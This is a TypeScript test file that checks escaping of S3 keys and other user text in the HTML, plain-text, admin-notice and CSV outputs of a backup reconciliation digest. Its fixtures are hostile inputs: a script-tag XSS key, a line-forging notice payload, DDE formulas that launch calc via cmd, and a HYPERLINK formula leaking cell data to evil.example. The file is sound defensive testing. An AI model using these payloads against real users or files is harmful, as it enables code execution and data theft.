/**
 * User text in the digest: escaped in HTML, visible in text and in the
 * admin notice, inert in CSV.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { adminNotice } from '../../core/digest/email.ts';
import type { RecipientCheck } from '../../core/digest/events.ts';
import { UploadStatus as S } from '../../core/model/status.ts';
import { reconcileDay } from '../../core/reconcile/reconcile-day.ts';
import {
  escapeHtml,
  markup,
  neutralizeCell,
  unneutralizeCell,
  visible,
} from '../../core/report/escape.ts';
import {
  CSV_COLUMNS,
  csv,
  csvRows,
  HTML_BUDGET_BYTES,
  html,
  previewHtml,
  subject,
  text,
} from '../../core/report/render.ts';
import { oneLine } from '../../core/report/render-common.ts';
import { anyText, UNSAFE } from '../support/hostile-text.ts';
import {
  hostileReport,
  input,
  key,
  parseCsv,
  upload,
} from '../support/report.ts';

const HOSTILE = 'recordings/<script>alert(1)</script> & "q".tar';

/**
 * The markup of an HTML text with the user text taken out: every tag's name
 * and attribute names, in order. Throws on a `<`, `>` or `"` outside a
 * well-formed tag, or a tag that is not `name="value"` attributes only.
 */
function skeleton(doc: string): string[] {
  const tag =
    /<(\/?)([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-zA-Z-]+(?:="[^"<>]*")?)*)\s*>/y;
  const out: string[] = [];
  let i = 0;
  for (;;) {
    const lt = doc.indexOf('<', i);
    const between = doc.slice(i, lt < 0 ? doc.length : lt);
    if (/[<>"]/.test(between))
      throw new Error(`markup character in text: ${between.slice(0, 80)}`);
    if (lt < 0) return out;
    if (doc.startsWith('<!DOCTYPE html>', lt)) {
      out.push('!DOCTYPE');
      i = lt + '<!DOCTYPE html>'.length;
      continue;
    }
    tag.lastIndex = lt;
    const m = tag.exec(doc);
    if (m === null) throw new Error(`malformed tag: ${doc.slice(lt, lt + 80)}`);
    const attrs = [...(m[3] ?? '').matchAll(/([a-zA-Z-]+)=/g)].map((a) => a[1]);
    out.push(`${m[1]}${m[2]}(${attrs.join(',')})`);
    i = tag.lastIndex;
  }
}

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', "'"];

/**
 * Whether a spreadsheet could read the cell (or a cell a separator inside
 * it would start) as a formula: a trigger first, after any spaces and
 * quotes.
 */
function startsFormula(cell: string): boolean {
  return cell
    .split(/[,;\r\n]/)
    .some(
      (part, i) =>
        TRIGGERS.includes(part.replace(/^[\s"']*/, '').charAt(0)) ||
        (i === 0 && TRIGGERS.includes(part.charAt(0))),
    );
}

describe('escape helpers', () => {
  it.each([
    ['a\u0000b', 'a\\x00b'],
    ['line\r\nbreak', 'line\\x0d\\x0abreak'],
    ['tab\there', 'tab\\x09here'],
    ['\u0085\u009f\u007f', '\\x85\\x9f\\x7f'],
    ['evil\u202eraT.exe', 'evil\\u202eraT.exe'],
    ['\u2066iso\u2069', '\\u2066iso\\u2069'],
    ['zero\u200bwidth\ufeff', 'zero\\u200bwidth\\ufeff'],
    ['lone \ud800 and \udc00', 'lone \\ud800 and \\udc00'],
    ['😀 café 日本語 a\u200db', '😀 café 日本語 a\u200db'],
  ])('visible(%j) = %j', (input, shown) => {
    expect(visible(input)).toBe(shown);
  });

  it('escapes markup and quotes for text and attributes', () => {
    expect(escapeHtml(HOSTILE)).toBe(
      'recordings/&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;q&quot;.tar',
    );
    expect(escapeHtml("it's &amp;")).toBe('it&#39;s &amp;amp;');
  });

  it('markup escapes what it interpolates and keeps its own results', () => {
    const inner = markup`<b>${'<i>'}</b>`;
    expect(markup`<p title="${'"x"'}">${inner}${['<', 1]}</p>`.html).toBe(
      '<p title="&quot;x&quot;"><b>&lt;i&gt;</b>&lt;1</p>',
    );
  });

  it.each([
    ['=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['＝1+1', "'＝1+1"],
    ["'quoted", "''quoted"],
    ['recordings/a=b.tar', 'recordings/a=b.tar'],
    [' =1', "' =1"],
    [' =HYPERLINK("http://x")', '\' =HYPERLINK("http://x")'],
    ['\u00a0 @SUM(A1)', "'\u00a0 @SUM(A1)"],
    ['"=1+2', '\'"=1+2'],
    ["x;=cmd|' /C calc'!A0", "'x;=cmd|' /C calc'!A0"],
    ['a.tar, +1', "'a.tar, +1"],
    ['line\n-1', "'line\n-1"],
    ['a,b;c.tar', 'a,b;c.tar'],
    ['', ''],
  ])('neutralizeCell(%j) = %j, undone exactly', (cell, safe) => {
    expect(neutralizeCell(cell)).toBe(safe);
    expect(unneutralizeCell(neutralizeCell(cell))).toBe(cell);
  });
});

describe('HTML escaping', () => {
  it('never shows a hostile key unescaped', () => {
    const r = hostileReport(HOSTILE);
    const x = hostileReport('x');
    for (const [doc, plain] of [
      [html(r), html(x)],
      [previewHtml(r), previewHtml(x)],
    ] as const) {
      expect(doc).not.toContain('<script');
      expect(doc).not.toContain(HOSTILE);
      expect(doc).not.toContain('"q"');
      // One bucket: the keys are shown without it, the bucket named once.
      expect(doc).toContain('Keys in s3://rec/');
      expect(doc).toContain(
        '>recordings/&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;q&quot;.tar<',
      );
      expect(skeleton(doc)).toEqual(skeleton(plain));
    }
  });

  it('escapes Athena’s error too', () => {
    const r = hostileReport(HOSTILE, true);
    expect(html(r)).not.toContain('<script');
    expect(skeleton(html(r))).toEqual(skeleton(html(hostileReport('x', true))));
  });

  it('property: any text leaves the markup as it is and shows up escaped', () => {
    const plain = skeleton(html(hostileReport('x')));
    const plainDown = skeleton(html(hostileReport('x', true)));
    fc.assert(
      fc.property(anyText, fc.boolean(), (s, down) => {
        const r = hostileReport(s, down);
        const doc = html(r);
        expect(skeleton(doc)).toEqual(down ? plainDown : plain);
        expect(doc).not.toMatch(UNSAFE);
        // The key on one line: visible, shortened in the middle if long.
        expect(doc).toContain(escapeHtml(oneLine(s, 76)));
        expect(Buffer.byteLength(doc)).toBeLessThanOrEqual(HTML_BUDGET_BYTES);
      }),
      { numRuns: 200 },
    );
  });
});

describe('plain text and subject', () => {
  it('property: any text adds no line and no invisible character', () => {
    const lines = text(hostileReport('x')).split('\n').length;
    fc.assert(
      fc.property(anyText, (s) => {
        const r = hostileReport(s, true);
        const t = text(r);
        expect(t.split('\n').length).toBe(
          text(hostileReport('x', true)).split('\n').length,
        );
        expect(t).not.toMatch(UNSAFE);
        expect(t).toContain(visible(`s3://rec/${s}`));
        expect(subject(r)).not.toMatch(/[\r\n]/);
      }),
      { numRuns: 100 },
    );
    expect(lines).toBeGreaterThan(20);
  });
});

describe('admin notice', () => {
  const check: RecipientCheck = {
    sender: 's@example.com',
    sandbox: true,
    deliverTo: ['a@example.com'],
    unverified: [{ address: 'b@example.com', status: 'Pending' }],
  };
  /** The sentence the reconcile step writes when a HeadObject failed. */
  const headFailed = (key: string) =>
    `S3 check of 2026-03-14: 1 of 3 completed recordings not checked (listed unverified): HeadObject failed, first for s3://rec/${key}: AccessDenied: Access Denied.`;

  it('shows a key with line breaks escaped: it cannot forge a line', () => {
    const key = 'a.tar\n\nUPDATE: all recordings verified, nothing to do.\r\n';
    const n = adminNotice('2026-03-14', check, [headFailed(key)]);
    const plain = adminNotice('2026-03-14', check, [headFailed('a.tar')]);
    expect(n?.message.split('\n')).toHaveLength(
      plain?.message.split('\n').length ?? 0,
    );
    expect(n?.message).not.toMatch(/^UPDATE/m);
    expect(n?.message).toContain(
      'first for s3://rec/a.tar\\x0a\\x0aUPDATE: all recordings verified, nothing to do.\\x0d\\x0a: AccessDenied',
    );
  });

  it('property: any text in an alert or an address adds no line and no invisible character', () => {
    const lines = adminNotice('2026-03-14', check, [
      headFailed('x'),
    ])?.message.split('\n').length;
    fc.assert(
      fc.property(anyText, anyText, (k, address) => {
        const n = adminNotice(
          '2026-03-14',
          { ...check, unverified: [{ address, status: 'Pending' }] },
          [headFailed(k)],
        );
        expect(n?.message.split('\n').length).toBe(lines);
        expect(n?.message).not.toMatch(UNSAFE);
        expect(n?.message).toContain(visible(headFailed(k)));
        expect(n?.subject).toMatch(/^[\x20-\x7e]+$/);
      }),
      { numRuns: 200 },
    );
  });
});

describe('CSV', () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open me")',
    '+1',
    '@SUM(A1:A9)',
    '-2+3',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    "'already quoted",
    '-backup/2026-03-14.tar',
    ' =HYPERLINK("http://evil.example/","x")',
    "x;=cmd|' /C calc'!A0",
    'a.tar,@SUM(A1)',
  ];

  it('has a header row, a BOM, CRLF records and one row per attention upload', () => {
    const r = hostileReport(HOSTILE);
    const out = csv(r);
    expect(
      out.startsWith('\ufeff"category","key_status","bucket","key",'),
    ).toBe(true);
    // Every cell quoted (empty ones too), every quote inside doubled.
    expect(out).toMatch(/^\ufeff(?:"(?:[^"]|"")*"(?:,|\r\n))+$/);
    const rows = parseCsv(out);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const expected = csvRows(r);
    expect(expected.length).toBe(
      r.attention.reduce((n, a) => n + a.uploads.length, 0),
    );
    expect(rows.slice(1).map((row) => row.map(unneutralizeCell))).toEqual(
      expected.map((e) => CSV_COLUMNS.map((c) => e[c] ?? '')),
    );
  });

  it('neutralises formulas in keys, upload ids and error codes, and changes nothing else', () => {
    const records = FORMULAS.map((k, i) =>
      key(k, [
        upload(S.FAILED, {
          uploadId: i % 2 === 0 ? `=cmd|' /C calc'!A${i}` : `id${i}`,
          errorCodes: [`@err${i}`, 'InvalidPart'],
        }),
      ]),
    );
    records.push(key('plain, "quoted"\r\nkey.tar', [upload(S.FAILED)]));
    const r = reconcileDay(input(records));
    const rows = parseCsv(csv(r)).slice(1);
    const col = (c: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(c);
    const byKey = new Map(rows.map((row) => [row[col('key')] ?? '', row]));
    for (const k of FORMULAS) {
      const row = byKey.get(`'${k}`);
      expect(row, k).toBeDefined();
      expect(row?.[col('error_codes')]).toMatch(/^'@err\d+ InvalidPart$/);
    }
    expect(byKey.get('plain, "quoted"\r\nkey.tar')).toBeDefined();
    expect(rows.map((row) => row[col('upload_id')])).toContain(
      "'=cmd|' /C calc'!A0",
    );
    for (const row of rows)
      for (const cell of row)
        if (!cell.startsWith("'")) expect(startsFormula(cell)).toBe(false);
  });

  it('property: any text round-trips through RFC 4180 and never starts a formula', () => {
    fc.assert(
      fc.property(anyText, (s) => {
        const r = hostileReport(s);
        const rows = parseCsv(csv(r));
        const expected = csvRows(r).map((e) =>
          CSV_COLUMNS.map((c) => e[c] ?? ''),
        );
        expect(rows.slice(1).map((row) => row.map(unneutralizeCell))).toEqual(
          expected,
        );
        for (const row of rows)
          for (const cell of row)
            expect(startsFormula(cell) && !cell.startsWith("'")).toBe(false);
      }),
      { numRuns: 200 },
    );
  });
});
